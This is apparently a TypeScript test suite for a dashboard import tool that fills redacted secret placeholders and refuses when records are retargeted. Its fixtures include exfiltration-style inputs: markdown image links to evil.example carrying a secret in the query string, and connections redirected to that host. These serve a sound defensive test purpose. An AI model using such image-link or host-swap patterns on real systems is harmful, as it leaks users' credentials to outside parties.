import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { recordsOn } from "../../support/on-stack.ts";
import { draftedFor, fillRecords } from "../../support/drafted-secrets.ts";
import {
  importStage,
  outcomeOf,
  writesOn,
  type JsonObject,
  type StackRecord,
  type StageRun,
} from "../../support/import-stage.ts";
import { memoryStack, type MemoryStack } from "../../support/memory-stack.ts";
import { dashboard, hexId, records, webhook } from "../../support/stack-records.ts";
import { propertyRuns } from "../../support/tries.ts";

const MARK = "«redacted:assigned-secret»";
const POINTER = "/tiles/0/config/markdown";
const SECRET = "s3cret-of-old";
const BOARD = `dashboards/${hexId("a", 16)}`;
const CONNECTION = `connections/${hexId("c", 1)}`;

const board = (markdown: string, more: JsonObject = {}): JsonObject =>
  dashboard(hexId("a", 16), "Runbook", "", {
    tiles: [{ id: hexId("d", 1), name: "Notes", config: { displayType: "markdown", markdown, ...more } }],
  });
const archiveOf = (...dashboards: JsonObject[]): StackRecord[] => records({ dashboards });
const connectionTo = (host: string): StackRecord[] =>
  records({ connections: [{ id: hexId("c", 1), name: "Main", host, username: "reader", createdAt: `${host}.now` }] });
const target = (): MemoryStack =>
  memoryStack({ connections: [], dashboards: [], alerts: [], sources: [], webhooks: [], "saved-searches": [] });
const always = (): boolean => true;

/** Fills an archive from a secrets file that was drafted for another archive. */
async function fillWith(
  drafted: readonly StackRecord[],
  values: Parameters<typeof draftedFor>[1],
  archive: readonly StackRecord[],
  isListed: Parameters<typeof fillRecords>[2] = always,
) {
  const stack = target();
  const secrets = draftedFor(drafted, values);
  const run = await importStage(stack).run(archive, { secrets, isListed, create: ["connections"] });
  return { stack, run, said: JSON.stringify([run.plan.items, run.plan.missingSecrets, run.outcomes, run.events]) };
}

describe("a value that was drafted for another text", () => {
  it.each([
    ["an image of a stranger", `![](https://evil.example/p.png?k=${MARK})`],
    ["one word more", `password: ${MARK}!`],
    ["another rule", "password: «redacted:jwt»"],
    ["a second placeholder", `password: ${MARK}${MARK}`],
  ])("is not used: %s", async (_, now) => {
    const { run, stack, said } = await fillWith(
      archiveOf(board(`password: ${MARK}`)),
      { [BOARD]: { [POINTER]: SECRET } },
      archiveOf(board(now)),
    );
    expect(outcomeOf(run, "Runbook")).toMatchObject({ action: "blocked", code: "secret-refused" });
    expect(run.exitCode).toBe(3);
    expect(run.plan.missingSecrets).toMatchObject([{ pointer: POINTER }]);
    expect(writesOn(stack)).toEqual([]);
    expect(said).not.toContain(SECRET);
  });

  it("is used where the rest of the record has changed", async () => {
    const { stack } = await fillWith(
      archiveOf(board(`password: ${MARK}`)),
      { [BOARD]: { [POINTER]: SECRET } },
      archiveOf({ ...board(`password: ${MARK}`), tags: ["new"], updatedAt: "2031-01-01T00:00:00.000Z" }),
    );
    expect(JSON.stringify(recordsOn(stack, "dashboards"))).toContain(`password: ${SECRET}`);
  });

  it("is not used where the address beside it is another one", async () => {
    const request = (url: string): StackRecord[] => archiveOf(board("plain", { url, auth: MARK }));
    const at = { [BOARD]: { "/tiles/0/config/auth": SECRET } };
    for (const url of ["https://evil.example/", "evil.example", "//evil.example", "evil:8080"]) {
      const { run, stack } = await fillWith(request("https://good.example/"), at, request(url));
      expect(outcomeOf(run, "Runbook")?.code).toBe("secret-refused");
      expect(writesOn(stack)).toEqual([]);
    }
  });

  it("is not used where an address anywhere in its tile is another one, and is where one of another tile is", async () => {
    const request = (url: string, link: string): StackRecord[] => {
      const made = board("plain", { target: [{ url }], auth: { password: MARK } });
      const other = { id: hexId("d", 2), name: "More", config: { displayType: "markdown", markdown: link } };
      return archiveOf({ ...made, tiles: [...(made["tiles"] as JsonObject[]), other] });
    };
    const at = { [BOARD]: { "/tiles/0/config/auth/password": SECRET } };
    const drafted = request("https://good.example/", "https://one.example/");
    const moved = await fillWith(drafted, at, request("https://evil.example/", "https://one.example/"));
    expect(outcomeOf(moved.run, "Runbook")?.code).toBe("secret-refused");
    expect(writesOn(moved.stack)).toEqual([]);
    const linked = await fillWith(drafted, at, request("https://good.example/", "https://two.example/"));
    expect(JSON.stringify(recordsOn(linked.stack, "dashboards"))).toContain(SECRET);
  });

  it("is not used for a connection to another host", async () => {
    const values = { [CONNECTION]: { "/password": SECRET } };
    const changed = await fillWith(connectionTo("http://db:8123"), values, connectionTo("http://evil.example"));
    expect(outcomeOf(changed.run, "Main")).toMatchObject({ action: "blocked", code: "secret-refused" });
    expect(changed.run.plan.missingSecrets).toMatchObject([{ around: ["host http://evil.example"], writeOnly: true }]);
    expect(writesOn(changed.stack)).toEqual([]);
    const same = await fillWith(connectionTo("http://db:8123"), values, connectionTo("http://db:8123"));
    expect(recordsOn(same.stack, "connections")).toMatchObject([{ password: SECRET }]);
  });

  it("lands in no other text, whatever the two are", () => {
    const text = fc.array(fc.constantFrom(MARK, "«redacted:jwt»", "https://a.example/?k=", " ", "x", "![](", ")"), {
      minLength: 1,
      maxLength: 4,
    });
    fc.assert(
      fc.property(text, text, (old, now) => {
        const [before, after] = [old.join(""), now.join("")];
        const count = old.filter((part) => part.startsWith("«")).length;
        fc.pre(count > 0);
        const values = { [BOARD]: { [POINTER]: Array.from({ length: count }, () => SECRET) } };
        const answers = draftedFor(archiveOf(board(before)), values);
        const made = fillRecords(archiveOf(board(after)), answers, always);
        expect(JSON.stringify(made.records).includes(SECRET)).toBe(before === after);
      }),
      propertyRuns(),
    );
  });
});

describe("a secret that goes where others see it", () => {
  const shown = `![](https://img.example/p.png?k=${MARK})`;

  it.each([
    ["made", target()],
    ["updated", memoryStack({ dashboards: [board("old")], alerts: [], sources: [], webhooks: [] })],
  ])("is warned of where its record is %s", async (_, stack) => {
    const archive = archiveOf(board(shown));
    const secrets = draftedFor(archive, { [BOARD]: { [POINTER]: SECRET } });
    const run = await importStage(stack).run(archive, { secrets, onConflict: "overwrite" });
    expect(run.plan.warnings.map(({ code, pointer }) => [code, pointer])).toEqual(
      expect.arrayContaining([["secret-exposed", POINTER]]),
    );
  });
});

describe("a value without a context", () => {
  it("is never used, unless it says that there was none", () => {
    const archive = [...archiveOf(board(`password: ${MARK}`)), ...connectionTo("http://db:8123")];
    const made = fillRecords(
      archive,
      { [BOARD]: { [POINTER]: [{ value: SECRET }] }, [CONNECTION]: { "/password": [{ value: SECRET }] } },
      always,
    );
    expect(JSON.stringify(made.records)).not.toContain(SECRET);
    const none = fillRecords(archive, { [CONNECTION]: { "/password": [{ value: null }] } }, always);
    expect([...none.fillings.values()].map(({ supplied }) => [...supplied])).toEqual([["/password"]]);
  });
});

it("an import fills in no placeholder that the manifest does not list", async () => {
  const archive = archiveOf(board(`password: ${MARK}`));
  const values = { [BOARD]: { [POINTER]: SECRET } };
  for (const isListed of [() => false, (_: string, pointer: string) => pointer !== POINTER]) {
    const { run, stack } = await fillWith(archive, values, archive, isListed);
    expect(outcomeOf(run, "Runbook")).toMatchObject({ action: "blocked", code: "placeholder-unlisted" });
    expect(run.plan.missingSecrets).toEqual([]);
    expect(writesOn(stack)).toEqual([]);
  }
});

it("an import writes nothing of a record of which the manifest lists but one of two placeholders", async () => {
  const archive = archiveOf(board(`password: ${MARK}`, { note: `password: ${MARK}` }));
  const given: readonly Readonly<Record<string, string>>[] = [{}, { [POINTER]: SECRET }];
  for (const answers of given) {
    const { run, stack } = await fillWith(archive, { [BOARD]: answers }, archive, (_, pointer) => pointer === POINTER);
    expect(outcomeOf(run, "Runbook")).toMatchObject({ action: "blocked", code: "placeholder-unlisted" });
    expect(run.plan.missingSecrets).toEqual([]);
    expect(writesOn(stack)).toEqual([]);
  }
});

describe("the plan", () => {
  it("shows what stands around, on one line, with hosts in front and nothing hidden", async () => {
    const markdown = `first line\n![a\u200b](https://evil.example/p.png?k=${MARK})\nlast «redacted:jwt»`;
    const run = await importStage(target()).run(archiveOf(board(markdown)));
    expect(run.plan.missingSecrets[0]?.around).toEqual([
      `evil.example: ![a\\u{200b}](https://evil.example/p.png?k=${MARK})`,
      "last «redacted:jwt»",
    ]);
  });

  it("warns of a secret in an address or a header, filled in or not", async () => {
    const archive = [
      ...archiveOf(
        board(`![](https://evil.example/p.png?k=${MARK})`, { headers: { "X-Key": "«redacted:credential»" } }),
      ),
    ];
    const header = ["secret-exposed", "/tiles/0/config/headers/X-Key", expect.stringContaining("sent in a header")];
    const address = ["secret-exposed", POINTER, expect.stringContaining("part of an address")];
    const warned = expect.arrayContaining([header, address]) as unknown;
    const warningsIn = ({ plan }: StageRun) =>
      plan.warnings.map(({ code, pointer, message }) => [code, pointer, message]);
    const open = await importStage(target()).run(archive);
    expect(warningsIn(open)).toEqual(warned);
    expect(open.plan.warnings).toHaveLength(2);
    expect(JSON.stringify(open.plan.warnings)).toContain("evil.example");
    const values = { [BOARD]: { [POINTER]: SECRET, "/tiles/0/config/headers/X-Key": SECRET } };
    const { run } = await fillWith(archive, values, archive);
    expect(warningsIn(run)).toEqual(warned);
    expect(run.plan.warnings).toHaveLength(2);
    expect(JSON.stringify(run.plan.warnings)).not.toContain(SECRET);
  });

  it("warns of none in plain text, nor of records that are not written", async () => {
    const plain = await importStage(target()).run(archiveOf(board(`see http://wiki for the password: ${MARK}`)));
    expect(plain.plan.warnings).toEqual([]);
    const hook = { ...webhook(hexId("c", 5), "oncall"), url: "https://hooks.slack.com/«redacted:webhook-url»" };
    expect((await importStage(target()).run(records({ webhooks: [hook] }))).plan.warnings).toEqual([]);
  });
});
